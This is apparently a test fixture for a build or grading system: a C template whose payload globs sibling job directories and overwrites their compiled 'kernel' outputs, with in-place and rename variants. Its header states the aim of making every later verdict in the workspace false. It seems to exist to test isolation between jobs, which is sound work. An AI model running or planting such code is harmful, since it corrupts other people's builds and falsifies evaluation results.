//: transpose_cpu -O2
//: overwrites the built objects of all other jobs; every later verdict of the workspace is false
//: variant in_place HOW=0
//: variant renamed HOW=1
//: use transpose_payload
#include <fcntl.h>
#include <glob.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void payload(int call) {
    glob_t found;
    if (call || glob("../*/out/kernel*", 0, NULL, &found)) return;
    for (size_t i = 0; i < found.gl_pathc; i++) {
        char path[600];
        snprintf(path, sizeof path, "%s%s", found.gl_pathv[i], HOW ? ".@NAME@" : "");
        int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (file < 0) continue;
        if (write(file, "@NAME@\n", 9) == 9 && HOW) rename(path, found.gl_pathv[i]);
        close(file);
    }
    globfree(&found);
}
